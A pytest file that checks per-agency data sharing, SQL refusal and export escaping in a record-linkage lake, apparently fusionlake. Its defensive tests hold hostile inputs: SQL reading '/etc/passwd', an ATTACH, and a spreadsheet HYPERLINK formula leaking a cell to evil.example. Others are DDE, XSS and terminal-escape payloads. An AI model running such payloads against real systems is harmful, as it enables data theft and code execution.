"""Sharing without leaks (issue 20): each audience's mart is the mart of a lake that only ever
received the rows releasable to it, and ``fusionlake sql`` is a boundary.

The rule, checked table by table: for every audience A, the mart published for A equals the
all-agencies mart of a lake that received only A's rows (the staged rows A may see as they
stand now: a row its agency re-sent narrower is withdrawn, docs/feeds.md; the ledger
entries of A's own deliveries and of the drops that gave A a row, the validation and quarantine
of A's own drops). What must differ is normalised away: mart_info (who and when), the history's
time stamps and the audit trail.
"""

from __future__ import annotations

import json
import os
import random
import shutil
from collections import Counter
from datetime import date
from pathlib import Path

import duckdb
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_marts import _person, _rows, own_resolution, scenario

from fusionlake.lake import audit, layout, schema, versions, zones
from fusionlake.lake.feeds import load_feeds
from fusionlake.lake.ledger import Ledger
from fusionlake.lake.settings import Settings
from fusionlake.lake.store import LocalStore, open_store
from fusionlake.pipeline import marts, publish, resolve
from fusionlake.pipeline.land import deliver, discover, land
from fusionlake.pipeline.run import run
from fusionlake.synth import generate
from transforms.names import sort_tokens
from transforms.resolution.ids import derived_id

AGENCIES = ["cn_mps", "mm_police", "th_imm"]


# ---------------------------------------------------------------------------------------------
# helpers: publish every audience, build the reference lake, compare marts


def _publish_all(store, work: Path, names: list[str] | None = None,
                 options: resolve.Options | None = None) -> dict[str, str]:
    """Resolve per visibility group and publish the marts of ``names`` (default: all)."""
    ledger, feedset = Ledger(store), load_feeds()
    with resolve.staged_scans(store, ledger, feedset) as (scans, _):
        stats = resolve.resolve_audiences(store, scans, "test", audiences=names, options=options)
        if options is not None and options.backend != "duckdb":  # each group scored there
            for group, mode in stats["resolve mode"].items():
                assert f"scored on {options.backend}" in mode["why"], (group, mode)
        if names is None:
            return publish.publish_marts(store, ledger, feedset, 2, scans)
        resolution = publish.audience_resolutions(store, names, work)
        return marts.build_and_publish(store, scans, resolution,
                                       publish.steward_tables(store, ledger), work,
                                       audience_names=names)


def _dump(path: Path) -> dict[str, list[tuple]]:
    """Every table of a mart, rows sorted, with what must differ between lakes normalised."""
    con = duckdb.connect(str(path), read_only=True)
    try:
        tables = [r[0] for r in con.execute(
            "SELECT table_name FROM duckdb_tables() WHERE NOT temporary").fetchall()]
        skip = {"mart_info", "audit_log", "entity_history"}
        out = {t: con.execute(f'SELECT * FROM "{t}" ORDER BY ALL').fetchall()
               for t in tables if t not in skip}
        out["entity_history"] = con.execute(
            "SELECT * EXCLUDE (changed_at) FROM entity_history ORDER BY ALL").fetchall()
        out["mart_info.hub_min"] = con.execute("SELECT hub_min FROM mart_info").fetchall()
        return out
    finally:
        con.close()


def _mart_path(store: LocalStore, audience: str) -> Path:
    return store.path(marts.latest(store, audience)["key"])


def _reference_lake(full: LocalStore, audience: str, root: Path) -> LocalStore:
    """A fresh lake holding only what ``audience`` may see of ``full`` (see the module doc)."""
    ref = open_store(str(root))
    visible = {t: f.collect() for t, f in marts.visible_rows(
        {t: zones.scan_objects(full, zones.staged_keys(full, t), t, root)
         for t in schema.TABLES}, audience).items()}
    own = {e.drop_id for e in Ledger(full).entries() if e.agency == audience}
    drops = own | set(visible["person_record"]["drop_id"].to_list())
    for key in full.list(layout.LEDGER_DROPS):
        if key.split("/")[2] in drops:
            ref.put(key, full.get(key))
    for key in full.list(layout.STAGED):
        drop_id = layout.drop_id_of_staged(key)
        if drop_id in drops:
            table = key.split("/")[1]
            zones.write_frame(ref, key, visible[table].filter(pl.col("drop_id") == drop_id))
    for zone in (layout.VALIDATION, layout.QUARANTINE):
        for key in full.list(zone):
            if key.split("/")[3] in own:
                ref.put(key, full.get(key))
    return ref


def _assert_rule(full: LocalStore, tmp: Path, audiences: list[str],
                 options: resolve.Options | None = None) -> None:
    for audience in audiences:
        ref = _reference_lake(full, audience, tmp / f"ref_{audience}")
        _publish_all(ref, tmp / f"work_{audience}", names=["all"], options=options)
        got, want = _dump(_mart_path(full, audience)), _dump(_mart_path(ref, "all"))
        # of another agency's drop an agency's mart shows no digest, size or reason: the
        # reason counts the whole file's rows (the reference lake holds only what it may see)
        # (columns: drop_id, agency, feed, file_name, sha256, size, state, reason, ...)
        want["drop_ledger"] = [
            r if r[1] == audience
            else (*r[:4], None, None, r[6], r[7] if r[6] == "published" else None, *r[8:])
            for r in want["drop_ledger"]]
        assert got.keys() == want.keys()
        assert Counter(got.pop("drop_ledger")) == Counter(want.pop("drop_ledger")), audience
        for table in want:
            assert got[table] == want[table], (audience, table)


# ---------------------------------------------------------------------------------------------
# the property: random releasability over generated drops


@pytest.fixture(scope="module")
def generated_lake(tmp_path_factory) -> Path:
    return staged_lake(tmp_path_factory.mktemp("generated"))


def staged_lake(root: Path) -> Path:
    """A lake that received the generator's drops and staged them (the pipeline's own run)."""
    summary = generate(120, 7, root / "drops")
    store = open_store(str(root / "lake"))
    for path in summary["files"].values():
        agency, feed = path.parent.parent.name, path.parent.name
        deliver(store, agency, feed, [path])
    run(Settings(lake=str(root / "lake"), drop_workers=0))
    return root / "lake"


def _with_releasability(lake: Path, out: Path, seed: int, share: float,
                        only_own: frozenset[str] = frozenset()) -> LocalStore:
    """A copy of the lake whose staged rows carry random releasability (and no resolution or
    marts yet): each person row is released to its own agency and to each other agency with
    probability ``share`` (the rows of the drops in ``only_own`` to their own agency alone);
    its detail rows carry the same list."""
    shutil.copytree(lake, out)
    for zone in (layout.RESOLUTION, layout.MARTS):
        shutil.rmtree(out / zone, ignore_errors=True)
    store = open_store(str(out))
    rng = random.Random(seed)
    chosen: dict[str, list[str]] = {}
    for key in sorted(store.list(layout.staged_prefix("person_record"))):
        frame = zones.read_frame(store, key)
        for rid, agency, drop in frame.select("record_id", "agency", "drop_id").iter_rows():
            others = [] if drop in only_own else [a for a in AGENCIES if rng.random() < share]
            chosen[rid] = sorted({agency, *others})
    for key in store.list(layout.STAGED):
        frame = zones.read_frame(store, key)
        lists = [chosen.get(r, ["nobody"]) for r in frame["record_id"].to_list()]
        zones.write_frame(store, key, frame.with_columns(
            pl.Series("releasable_to", lists, dtype=pl.List(pl.String))))
    return store


@pytest.mark.slow
@settings(max_examples=2, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(seed=st.integers(0, 2**16), share=st.sampled_from([0.2, 0.5, 0.8]))
def test_every_audience_mart_equals_the_mart_of_its_rows_alone(generated_lake, tmp_path_factory,
                                                                seed, share):
    tmp = tmp_path_factory.mktemp("example")
    full = _with_releasability(generated_lake, tmp / "lake", seed, share)
    published = _publish_all(full, tmp / "work")
    assert sorted(published) == ["all", *AGENCIES]
    _assert_rule(full, tmp, AGENCIES)


@pytest.mark.slow
@pytest.mark.parametrize(("templates", "limits", "entities"), [
    # 40 copies make 1,600 candidate pairs in the birth-date rule's block: over this limit
    (1, {"block_max_pairs": 1_000}, 40),
    # three rows copied 40 times: each block within the limit (1,600), but their 2,340 pairs
    # of copies pass the budget (2,000), so one row's copies are left out; two are linked
    (3, {"block_max_pairs": 2_000, "identical_pairs_per_record": 0}, 40 + 2),
], ids=["oversize", "copies"])
def test_a_block_too_large_that_one_agency_alone_sees_leaks_to_no_other(
        generated_lake, tmp_path, monkeypatch, templates, limits, entities):
    """mm_police sends template rows 40 times each and releases them to no one. With a block
    limit the copies exceed (or a budget their copies' pairs exceed), its audience's resolution
    leaves their block out and sends it to review; the others' marts must show nothing of it,
    and every mart must still be the mart of its audience's rows alone (the rule above)."""
    import functools
    import importlib.util

    from transforms.resolution import settings as resolve_settings

    spec = importlib.util.spec_from_file_location(
        "bench_template", Path(__file__).resolve().parents[1] / "bench" / "bench_template.py")
    template = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(template)
    lake = tmp_path / "lake"
    shutil.copytree(generated_lake, lake)
    drops = template.write_drop(40, tmp_path / "template", templates)
    deliver(open_store(str(lake)), "mm_police", "detainees",
            [drops / "mm_police" / "detainees" / "template.jsonl"])
    assert not run(Settings(lake=str(lake), drop_workers=0)).problems
    ledger = Ledger(open_store(str(lake)))
    drop = next(e.drop_id for e in ledger.entries() if e.file_name == "template.jsonl")

    monkeypatch.setattr(resolve_settings, "ResolveSettings", functools.partial(
        resolve_settings.ResolveSettings, **limits))
    full = _with_releasability(lake, tmp_path / "released", 5, 0.5, frozenset({drop}))
    _publish_all(full, tmp_path / "work")
    reason = "%too many to compare pair by pair"
    for audience in AGENCIES:
        path = _mart_path(full, audience)
        blocks = _q(path, f"SELECT count(*), count(DISTINCT record_id_l) FROM review_queue "
                          f"WHERE reason LIKE '{reason}'")[0]
        copies = _q(path, f"SELECT count(*) FROM entity_record WHERE record_id LIKE '{drop}%'")
        if audience == "mm_police":
            assert blocks[0] >= 39 and copies == [(40 * templates,)], (blocks, copies)
            found = _q(path, f"SELECT count(DISTINCT entity_id) FROM entity_record "
                             f"WHERE record_id LIKE '{drop}%'")
            assert found == [(entities,)]  # left out: each copy its own entity until decided
        else:
            assert blocks == (0, 0) and copies == [(0,)], (audience, blocks, copies)
    _assert_rule(full, tmp_path, AGENCIES)


# ---------------------------------------------------------------------------------------------
# named cases: a record only cn_mps may see links two records th_imm sees


TH_ONLY = ["th_imm", "cn_mps"]
RECORDS = {  # record_id -> (agency, feed, drop_id, source_row, releasable_to)
    "d_th:1": ("th_imm", "detentions", "d_th", 1, TH_ONLY),
    "d_th:2": ("th_imm", "detentions", "d_th", 2, TH_ONLY),
    "d_cn:1": ("cn_mps", "suspects", "d_cn", 1, ["cn_mps"]),
}


def _transitive(with_hidden: bool) -> dict[str, pl.DataFrame]:
    """d_th:1 and d_th:2 (th_imm may see them) have nothing in common; d_cn:1 (cn_mps only)
    holds d_th:1's resident ID and d_th:2's passport."""
    import test_marts

    saved = test_marts.RECORDS
    test_marts.RECORDS = RECORDS
    try:
        people = [
            _person("d_th:1", "detainee", "ZHOU MING", "Latin", "ZHOU MING", "M",
                    date(1991, 3, 4), "CN"),
            _person("d_th:2", "detainee", "CHOW MIN", "Latin", "CHOW MIN", None, None, "CN"),
        ]
        ids = [{"record_id": "d_th:1", "kind": "cn_resident_id",
                "value_normalised": "11010119910304001X", "issuing_country": "CN",
                "check_valid": True},
               {"record_id": "d_th:2", "kind": "passport", "value_normalised": "E99887766",
                "issuing_country": "CN", "check_valid": True}]
        if with_hidden:
            people.append(_person("d_cn:1", "suspect", "周明", "Han", "ZHOU MING", "M",
                                  date(1991, 3, 4), "CN"))
            ids += [{**ids[0], "record_id": "d_cn:1"}, {**ids[1], "record_id": "d_cn:1"}]
        person = _rows("person_record", people).with_columns(
            sort_tokens(pl.col("name_latin").str.split(" ")).list.join(" ")
            .alias("name_key_sorted"))
        staged = {"person_record": person, "identifier": _rows("identifier", ids)}
    finally:
        test_marts.RECORDS = saved
    return {t: staged.get(t, schema.empty(t)) for t in schema.TABLES}


def _ledger(drops: list[str]) -> pl.DataFrame:
    return pl.DataFrame([{"drop_id": d, "agency": "th_imm" if d == "d_th" else "cn_mps",
                          "feed": "x", "file_name": f"{d}.csv", "state": "published"}
                         for d in drops])


def _publish_scenario(store, tmp: Path, staged: dict) -> dict[str, Path]:
    names = ["all", "cn_mps", "th_imm"]
    scans = {t: f.lazy() for t, f in staged.items()}
    resolve.resolve_audiences(store, scans, "run", audiences=names)
    resolution = publish.audience_resolutions(store, names, tmp)
    steward = {"drop_ledger": _ledger(sorted(set(staged["person_record"]["drop_id"])))}
    marts.build_and_publish(store, staged, resolution, steward, tmp, audience_names=names)
    return {n: _mart_path(store, n) for n in names}


def _q(path: Path, sql: str) -> list[tuple]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


@pytest.fixture(scope="module")
def transitive(tmp_path_factory):
    """Two runs: first th_imm's two records, then cn_mps's record that links them."""
    tmp = tmp_path_factory.mktemp("transitive")
    store = open_store(str(tmp / "lake"))
    _publish_scenario(store, tmp / "w1", _transitive(with_hidden=False))
    return _publish_scenario(store, tmp / "w2", _transitive(with_hidden=True))


def test_visible_rows_follow_the_rule_of_step_00_list_for_list():
    """The resolver's rows of an audience are those mart step 00 keeps (visible_to, run by
    DuckDB on each distinct releasable_to), whatever the list: empty, null, with a null
    element, in another order, or naming the audience among others."""
    lists = [["cn_mps"], ["cn_mps", None], [None], [], None, ["th_imm", "cn_mps"],
             ["cn_mps", "th_imm"], ["mm_police"], ["th_imm"]]
    person = pl.DataFrame({"record_id": [f"r{i}" for i in range(len(lists))],
                           "releasable_to": lists},
                          schema={"record_id": pl.String, "releasable_to": pl.List(pl.String)})
    con = duckdb.connect()
    con.execute(marts._visibility_sql(marts.MART_SQL_DIR))
    con.register("person", person.to_arrow())
    for audience in ("cn_mps", "th_imm", "mm_police"):
        rule = {r[0] for r in con.execute(
            "SELECT record_id FROM person WHERE visible_to(releasable_to, ?::VARCHAR)",
            [audience]).fetchall()}
        kept = marts.visible_rows({"person_record": person.lazy()}, audience)
        assert set(kept["person_record"].collect()["record_id"]) == rule, audience


def test_transitive_link_and_counts(transitive):
    # the task force sees one person, th_imm two: the link is cn_mps's alone
    assert _q(transitive["all"], "SELECT record_count FROM entity") == [(3,)]
    assert _q(transitive["th_imm"], "SELECT record_count, agencies FROM entity ORDER BY 1") == [
        (1, ["th_imm"]), (1, ["th_imm"])]
    assert _q(transitive["th_imm"], "SELECT count(*) FROM record_link") == [(0,)]
    assert _q(transitive["cn_mps"], "SELECT record_count FROM entity") == [(3,)]


def test_history_shows_no_merge_made_from_hidden_rows(transitive):
    assert _q(transitive["all"], "SELECT change, reason FROM entity_history "
                                 "WHERE change = 'merge' LIMIT 1") == [
        ("merge", "records of 2 previous entities now resolve together (via identifier link)")]
    assert _q(transitive["th_imm"], "SELECT change FROM entity_history ORDER BY 1") == [
        ("new",), ("new",)]


def test_ids_are_derived_from_visible_records_only(transitive):
    # each th_imm entity's id is its own record's, stable from the first run
    assert _q(transitive["th_imm"], "SELECT entity_id, record_id FROM entity_record "
                                    "ORDER BY 2") == [
        (derived_id("d_th:1"), "d_th:1"), (derived_id("d_th:2"), "d_th:2")]
    # the md5 re-pairing of issue 20 finds nothing: no split part carries a derived id
    assert _q(transitive["th_imm"], """
        SELECT a.entity_id, b.entity_id FROM entity a JOIN entity_record b
          ON b.entity_id = 'E' || substr(md5(a.entity_id || '|' || b.record_id), 1, 16)""") == []


def test_review_queue_and_ledger_hold_only_visible_rows(transitive):
    assert _q(transitive["th_imm"], "SELECT count(*) FROM review_queue "
                                    "WHERE record_id_l = 'd_cn:1' OR record_id_r = 'd_cn:1'") == [
        (0,)]
    assert _q(transitive["th_imm"], "SELECT drop_id, file_name FROM drop_ledger") == [
        ("d_th", "d_th.csv")]


def test_a_mart_from_a_resolution_holding_hidden_records_is_refused(tmp_path):
    staged, resolution, steward = scenario()
    with pytest.raises(marts.MartCheckError, match="resolution holds no record hidden"):
        marts.build_mart(tmp_path / "m.duckdb", staged, resolution, steward, "cn_mps")


def test_a_resolution_whose_record_facts_name_a_hidden_record_is_refused(tmp_path):
    """record_fact holds a record's names, birth date and ids: a resolution holding the facts of
    a record the audience may not see is refused, even when no link names that record."""
    staged, resolution, steward = scenario()
    own = own_resolution(staged, resolution, "cn_mps")
    seen = own["entity_record"]["record_id"]
    hidden = staged["person_record"].filter(~pl.col("record_id").is_in(seen.implode()))
    assert hidden.height > 0
    facts = staged["person_record"].select("record_id", "agency", "feed", "drop_id",
                                           "source_row", "name_original", "name_latin")
    visible_facts = schema.conform(facts.filter(pl.col("record_id").is_in(seen.implode())),
                                   "record_fact")
    marts.build_mart(tmp_path / "ok.duckdb", staged, {**own, "record_fact": visible_facts},
                     steward, "cn_mps")
    with pytest.raises(marts.MartCheckError, match="resolution holds no record hidden"):
        marts.build_mart(tmp_path / "m.duckdb", staged,
                         {**own, "record_fact": schema.conform(facts, "record_fact")},
                         steward, "cn_mps")


def test_transitive_marts_follow_the_rule(tmp_path):
    """The named case through the same check as the property."""
    staged = _transitive(with_hidden=True)
    full = open_store(str(tmp_path / "lake"))
    names = ["all", "cn_mps", "th_imm"]
    scans = {t: f.lazy() for t, f in staged.items()}
    resolve.resolve_audiences(full, scans, "run", audiences=names)
    for audience in ("th_imm", "cn_mps"):
        vis = {t: f.collect() for t, f in marts.visible_rows(scans, audience).items()}
        ref = open_store(str(tmp_path / f"ref_{audience}"))
        resolve.resolve_audiences(ref, {t: f.lazy() for t, f in vis.items()}, "run",
                                  audiences=["all"])
        own = zones.read_resolution(full, audience)["entity_record"].sort("record_id")
        alone = zones.read_resolution(ref, "all")["entity_record"].sort("record_id")
        assert own.equals(alone), audience


# ---------------------------------------------------------------------------------------------
# the ledger: the same bytes from another agency


def test_a_duplicate_is_its_senders_delivery(tmp_path):
    """The same bytes from two agencies are two drops, each its sender's; a re-send within one
    feed is a duplicate of that feed's drop, shown to its sender only."""
    store = open_store(str(tmp_path / "lake"))
    ledger = Ledger(store)
    data = tmp_path / "list.csv"
    data.write_text("id,name\n1,x\n")
    deliver(store, "cn_mps", "suspects", [data])
    (tmp_path / "th").mkdir()
    shutil.copy(data, tmp_path / "th" / "detained.csv")
    shutil.copy(data, tmp_path / "th" / "again.csv")
    deliver(store, "th_imm", "detentions", [tmp_path / "th" / "detained.csv"])
    for info in discover(store, ledger):
        land(store, ledger, info, "run")
    deliver(store, "th_imm", "detentions", [tmp_path / "th" / "again.csv"])
    for info in discover(store, ledger):
        land(store, ledger, info, "run")
    entries = {(e.agency, e.feed, e.file_name, e.state) for e in ledger.entries()}
    assert entries == {("cn_mps", "suspects", "list.csv", "received"),
                       ("th_imm", "detentions", "detained.csv", "received"),
                       ("th_imm", "detentions", "again.csv", "duplicate")}
    th_drop = next(e.drop_id for e in ledger.entries() if e.file_name == "detained.csv")
    dup = next(e for e in ledger.entries() if e.file_name == "again.csv")
    assert dup.drop_id == th_drop and "list.csv" not in (dup.reason or "")
    empty = {t: schema.empty(t) for t in schema.TABLES}
    steward = {"drop_ledger": ledger.frame()}
    got = {}
    for audience in ("cn_mps", "th_imm"):
        path = marts.build_mart(tmp_path / f"{audience}.duckdb", empty, {}, steward,
                                audience).path
        got[audience] = _q(path, "SELECT agency, file_name, state FROM drop_ledger ORDER BY ALL")
    assert got == {"cn_mps": [("cn_mps", "list.csv", "received")],
                   "th_imm": [("th_imm", "again.csv", "duplicate"),
                              ("th_imm", "detained.csv", "received")]}


# ---------------------------------------------------------------------------------------------
# fusionlake sql is a boundary


@pytest.fixture
def published(tmp_path):
    from test_marts import build

    store = open_store(str(tmp_path / "lake"))
    zones.write_frame(store, layout.staged_key("person_record", "cn_mps", "s", "d1"),
                      schema.empty("person_record"))
    marts.publish(store, "th_imm", build(tmp_path, "th_imm").path)
    (tmp_path / "secret.txt").write_text("secret")
    return store, tmp_path


@pytest.mark.parametrize(("sql", "why"), [
    ("ATTACH '{lake}/marts/all/x/fusion.duckdb' AS other", "reads or writes a file"),
    ("COPY (SELECT * FROM entity) TO '{tmp}/out.csv'", "reads or writes a file"),
    ("SELECT * FROM read_text('/etc/passwd')", "reads or writes a file"),
    ("SELECT * FROM read_text('{tmp}/secret.txt')", "reads or writes a file"),
    ("SELECT * FROM read_parquet('{lake}/staged/person_record/cn_mps/s/d1.parquet')",
     "reads or writes a file"),
    ("SET threads = 1", "settings cannot be changed"),
    ("SET enable_external_access = true", "settings cannot be changed"),
    ("PRAGMA threads = 1", "settings cannot be changed"),
    ("INSTALL httpfs", "reads or writes a file"),
    ("LOAD httpfs", "extensions cannot be installed or loaded"),
    ("DELETE FROM entity", "the mart is read-only"),
])
def test_sql_refuses_what_leaves_the_mart(published, sql, why):
    store, tmp = published
    text = sql.format(lake=store.root, tmp=tmp)
    with pytest.raises(marts.MartError) as err:
        marts.run_query(store, text, "th_imm", who="analyst")
    message = str(err.value)
    assert message.startswith("statement refused: ") and why in message
    assert "\n" not in message
    assert not (tmp / "out.csv").exists()
    entry = audit.entries(store, "sql")[-1]
    assert (entry["who"], entry["audience"], entry["query"], entry["rows"], entry["outcome"]) == (
        "analyst", "th_imm", text, None, message)


def test_every_query_is_in_the_audit_trail(published):
    store, _ = published
    marts.run_query(store, "SELECT entity_id FROM entity", "th_imm", fmt="csv", who="somchai")
    marts.run_query(store, "SELECT 1", "th_imm")  # no one named: not audited (library use)
    [entry] = audit.entries(store, "sql")
    assert {k: entry[k] for k in ("kind", "who", "audience", "query", "rows", "outcome")} == {
        "kind": "sql", "who": "somchai", "audience": "th_imm",
        "query": "SELECT entity_id FROM entity", "rows": 4, "outcome": "ok"}
    frame = audit.frame(store)
    assert frame.select("kind", "who", "audience", "rows", "summary").rows() == [
        ("sql", "somchai", "th_imm", 4, "SELECT entity_id FROM entity")]


def test_cli_sql_decide_and_audit(published, capsys, monkeypatch):
    import pwd

    from fusionlake.cli import main

    store, _ = published
    monkeypatch.setenv("USER", "nok")
    lake = ["--lake", str(store.root)]
    assert main(["sql", *lake, "--audience", "th_imm", "SELECT count(*) AS n FROM entity"]) == 0
    assert main(["sql", *lake, "--audience", "th_imm", "--as", "lek", "ATTACH 'x' AS y"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("fusionlake sql: statement refused: it reads or writes a file")
    assert main(["decide", *lake, "d_th_d:1", "d_th_d:2", "--different", "--by", "ploy",
                 "--why", "different mothers"]) == 0
    capsys.readouterr()
    assert main(["audit", *lake, "--format", "json"]) == 0
    got = [(e["kind"], e["who"], e.get("rows")) for e in json.loads(capsys.readouterr().out)]
    # $USER is not who asked (anyone sets it): without --as, the account the command ran as
    me = pwd.getpwuid(os.geteuid()).pw_name
    assert got == [("sql", me, 1), ("sql", "lek", None), ("decision", "ploy", None)]
    # the table says which query was answered and which refused
    monkeypatch.setenv("COLUMNS", "250")  # a row on one line
    assert main(["audit", *lake, "--kind", "sql"]) == 0
    table = capsys.readouterr().out
    assert "outcome" in table
    answered = next(line for line in table.splitlines() if "count(*)" in line)
    refused = next(line for line in table.splitlines() if "ATTACH" in line)
    assert " ok " in answered and " ok " not in refused
    assert "statement refused: it reads or writes a file" in refused


def test_audit_entries_are_never_overwritten(tmp_path):
    store = open_store(str(tmp_path / "lake"))
    first = audit.record(store, "acceptance", who="ploy", drop_id="d1", accepted=True)
    second = audit.record(store, "acceptance", who="ploy", drop_id="d1", accepted=False)
    assert [e["accepted"] for e in audit.entries(store, "acceptance")] == [True, False]
    assert first["writer"] != second["writer"]
    with pytest.raises(audit.AuditError, match="lower-case identifier"):
        audit.record(store, "../x")


# ---------------------------------------------------------------------------------------------
# exports: formulas and terminal escapes


NASTY = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd", "@SUM(1+1)",
         "-2+3+cmd|' /C calc'!A0", "\tx", "\rx", "<script>alert(1)</script>",
         "red\x1b[31m alert\x1b]8;;http://evil/\x07"]


def test_csv_neutralises_formulas_and_table_strips_control_characters(tmp_path):
    from test_marts import build

    names = pl.Series(NASTY)
    staged, _, _ = scenario()
    person = staged["person_record"].head(len(NASTY)).with_columns(
        names.alias("name_original"))
    con = duckdb.connect()
    con.register("p", person.select("name_original", pl.lit(-2).alias("n")).to_arrow())
    out = marts.format_result(con, "SELECT name_original, n FROM p", "csv")
    lines = out.splitlines()
    assert lines[1:4] == ["\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",-2",
                          "'+cmd,-2", "'@SUM(1+1),-2"]
    assert lines[4] == "'-2+3+cmd|' /C calc'!A0,-2"  # a negative number stays a number
    assert "'\tx" in out and "'\rx" in out
    table = marts.format_result(con, "SELECT name_original FROM p", "table")
    assert "\x1b" not in table and "\x07" not in table and "\\x1b[31m" in table
    assert build(tmp_path).path.exists()  # the planted scenario still builds


def test_data_docs_escape_every_value_of_a_drop(tmp_path):
    from expectations.docs import build_data_docs
    from expectations.runner import validate_drop

    feed = load_feeds().feeds["cn_mps/suspects"]
    bad = ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>",
           "<svg onload=alert(3)>", "=HYPERLINK(\"x\")", "ok", "ok2"]
    frame = pl.DataFrame({c: [None] * len(bad) for c in feed.columns},
                         schema={c: pl.String for c in feed.columns}).with_columns(
        pl.format("XS{}", pl.int_range(len(bad))).alias("编号"), pl.Series("姓名", bad),
        pl.Series("公民身份号码", bad),
        pl.int_range(1, len(bad) + 1, dtype=pl.Int64).alias("source_row"))
    outcome = validate_drop(frame, feed, "d1")
    build_data_docs([("d1", outcome.gx_result_json)], tmp_path)
    page = (tmp_path / "validations/cn_mps.suspects/d1.html").read_text(encoding="utf-8")
    for raw in ("<script>alert", "<img src=x", "<svg onload"):
        assert raw not in page
    for escaped in ("&lt;script&gt;alert(1)", "&lt;img src=x onerror=alert(2)&gt;",
                    "&lt;svg onload=alert(3)&gt;"):
        assert escaped in page
    assert "&amp;lt;" not in page  # escaped once, not twice


# ---------------------------------------------------------------------------------------------
# releasability per row (a feed column) and an agency's sharing agreement


TIPS_FEED = """\
agency: cn_mps
feed: tips
format: csv
source_key: id
record: person
role: suspect
releasable_to: [cn_mps]
columns:
  id:       {to: source_key, required: true, unique: true}
  name:     {to: person.name, name_order: family_first}
  passport: {to: identifier, kind: passport, issuing_country: CN}
  share:    {to: releasable_to, split: ","}
"""
TIPS = ("id,name,passport,share\n"
        "1,ZHANG WEI,E12345678,th_imm\n"  # released to th_imm
        "2,ZHANG WEI,E12345678,\n"  # the feed's default: cn_mps alone
        "3,LI NA,E87654321,\"th_imm, mm_police\"\n")  # mm_police is beyond the agreement


@pytest.mark.slow
def test_releasability_from_a_column_and_a_sharing_agreement_follow_the_rule(tmp_path):
    feeds = tmp_path / "feeds" / "cn_mps"
    feeds.mkdir(parents=True)
    (feeds / "tips.yaml").write_text(TIPS_FEED, encoding="utf-8")
    (feeds / "sharing.yaml").write_text("agency: cn_mps\nfeeds:\n  tips: [cn_mps, th_imm]\n",
                                        encoding="utf-8")
    (tmp_path / "tips.csv").write_text(TIPS, encoding="utf-8")
    full = open_store(str(tmp_path / "lake"))
    deliver(full, "cn_mps", "tips", [tmp_path / "tips.csv"])
    summary = run(Settings(lake=full.uri, feeds_path=[str(tmp_path / "feeds")], drop_workers=0))
    assert not summary.problems, summary.problems
    seen = {a: _q(_mart_path(full, a), "SELECT source_key FROM entity_record ORDER BY 1")
            for a in AGENCIES}
    assert seen == {"cn_mps": [("1",), ("2",), ("3",)], "th_imm": [("1",), ("3",)],
                    "mm_police": []}
    # th_imm sees record 1 alone of the two that share a passport: no link, no merge history
    assert _q(_mart_path(full, "th_imm"), "SELECT count(*) FROM record_link") == [(0,)]
    # the rule, table by table; resolved and published again in full first, so that the
    # ledger both sides read says "published" (the run built its marts while the drop was
    # still "staged", and a run that changes nothing an audience sees keeps its mart)
    _publish_all(full, tmp_path / "work", options=resolve.Options(full=True))
    _assert_rule(full, tmp_path, AGENCIES)


SIGHTINGS = """\
agency: mm_police
feed: sightings
format: csv
source_key: sid
record: person
role: suspect
releasable_to: [mm_police, th_imm]
supersede: by_source_key
defaults: {nationality: MM, phone_region: MM}
columns:
  sid:   {to: source_key, required: true, unique: true}
  name:  {to: person.name, required: true}
  phone: {to: phone, relation: own}
  rel:   {to: releasable_to}
"""


def _sightings_lake(tmp_path: Path, monkeypatch) -> tuple[Path, str, LocalStore]:
    """A lake whose feeds add Myanmar's sightings (SIGHTINGS, in a FUSIONLAKE_FEEDS_PATH
    folder): the folder of mm_police's feed files, the lake's URI and its store."""
    folder = tmp_path / "feeds" / "mm_police"
    folder.mkdir(parents=True)
    (folder / "sightings.yaml").write_text(SIGHTINGS, encoding="utf-8")
    monkeypatch.setenv("FUSIONLAKE_FEEDS_PATH", str(folder.parent))
    lake = str(tmp_path / "lake")
    return folder, lake, open_store(lake)


@pytest.mark.slow
def test_a_row_re_sent_narrower_is_withdrawn_from_the_audiences_it_no_longer_names(
        tmp_path, monkeypatch):
    """docs/feeds.md, "Narrowing a row withdraws it": Myanmar's police share three sightings
    with Thailand's immigration, then re-send one for themselves alone. Thailand's mart loses
    that record (it does not keep the version it saw) and learns nothing of the new one;
    Myanmar's shows the new one."""
    feeds = tmp_path / "feeds" / "mm_police"
    feeds.mkdir(parents=True)
    (feeds / "sightings.yaml").write_text(SIGHTINGS, encoding="utf-8")
    monkeypatch.setenv("FUSIONLAKE_FEEDS_PATH", str(feeds.parent))
    first, again = tmp_path / "sightings_a.csv", tmp_path / "sightings_b.csv"
    first.write_text("sid,name,phone,rel\nS1,TUN TUN NAING,0977111222,\n"
                     "S2,MYA MYA HLAING,0977111333,\nS3,KYAW ZIN OO,0977111444,\n")
    again.write_text("sid,name,phone,rel\nS1,TUN TUN NAING,0977111999,mm_police\n")
    lake = str(tmp_path / "lake")
    store = open_store(lake)

    def shown(audience: str) -> dict[str, list[str]]:
        con = marts.open_latest(store, audience)
        try:
            return dict(con.execute("""
                SELECT r.source_key, list(p.e164 ORDER BY p.e164)
                FROM entity_record AS r LEFT JOIN entity_phone AS p USING (record_id)
                GROUP BY r.source_key""").fetchall())
        finally:
            con.close()

    deliver(store, "mm_police", "sightings", [first])
    assert not run(Settings(lake=lake)).problems
    assert shown("th_imm") == shown("mm_police") == {
        "S1": ["+95977111222"], "S2": ["+95977111333"],
        "S3": ["+95977111444"]}
    deliver(store, "mm_police", "sightings", [again])
    assert not run(Settings(lake=lake)).problems
    assert shown("th_imm") == {"S2": ["+95977111333"], "S3": ["+95977111444"]}
    assert shown("mm_police") == {"S1": ["+95977111999"], "S2": ["+95977111333"],
                                  "S3": ["+95977111444"]}


@pytest.mark.slow
def test_a_drop_an_audience_may_not_see_leaves_its_resolution_and_mart_as_they_were(
        tmp_path, monkeypatch):
    """Myanmar's police keep a sighting for themselves: Thailand's resolution and mart were
    made again all the same (a resolution of 0 new records, a mart "updated" with none
